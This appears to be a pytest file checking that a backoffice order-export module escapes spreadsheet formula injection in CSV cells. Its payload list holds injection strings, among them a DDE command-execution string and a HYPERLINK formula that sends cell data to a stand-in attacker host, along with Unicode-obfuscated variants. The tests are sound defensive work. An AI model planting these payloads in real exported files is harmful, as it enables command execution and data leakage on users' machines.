"""Spreadsheet programs calculate no cell of a downloaded table, whatever somebody typed."""

from __future__ import annotations

import csv
import io
import re

import pytest

from backoffice.pages.lists.formulas import BEGINNINGS, SKIPPED, escape_formula, unescape_formula
from orders.placing import sheet_import
from orders.placing.table_reader import COLUMNS, read

PAYLOADS = (
    "=1+1", "+1", "-1+cmd", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "=cmd|'/C calc'!A0",
    '=HYPERLINK("http://evil.invalid/?x="&A1,"click")', "=IMPORTXML(CONCAT(A1),1)", " =1", "   @x",
    "\u00a0=1", "\u3000=1", "\u200b=1", "\ufeff=1", "\v=1", " \t =1", "＝1", "＋1", "－1", "＠x",
    " ＝1", "\u3000＠x", '"=1"', "'=1", "''=1", "-2+3+cmd|' /C calc'!D2", "=\r\n1", "%0A=1",
)  # fmt: skip
PLAIN = ("Ana", "O'Neill", "a=b", "1-2", "x@y.invalid", "100.20", "<5", "", "'", "’= 1", "½")


def is_formula(cell: str) -> bool:
    """Return whether the least strict spreadsheet program would calculate the cell."""
    return re.match(r"[\s\u200b\ufeff]*[=+\-@＝＋－＠]", cell) is not None or cell[:1] in "\t\r\n"


@pytest.mark.parametrize("text", PAYLOADS)
def test_escaped_formula_is_text_and_can_be_unescaped(text: str) -> None:
    assert not is_formula(escape_formula(text))
    assert unescape_formula(escape_formula(text)) == text


@pytest.mark.parametrize("text", PLAIN)
def test_text_that_is_no_formula_is_unchanged(text: str) -> None:
    assert escape_formula(text) == unescape_formula(text) == text


def test_formula_after_any_skipped_characters_is_escaped() -> None:
    for skipped in ("", *SKIPPED, SKIPPED):
        for beginning in BEGINNINGS:
            risky = beginning.strip() or not skipped
            assert escape_formula(f"{skipped}{beginning}x").startswith("'") or not risky


def test_import_sheet_with_reasons_is_escaped() -> None:
    head = ",".join(COLUMNS)
    cells = ",".join('"=1+1"' for _ in COLUMNS)
    written = sheet_import.write_table(read(f"{head}\n{cells}\n".encode()), reasons=True)
    _, row = csv.reader(io.StringIO(written))
    assert row[:-1] == ["'=1+1"] * len(COLUMNS)
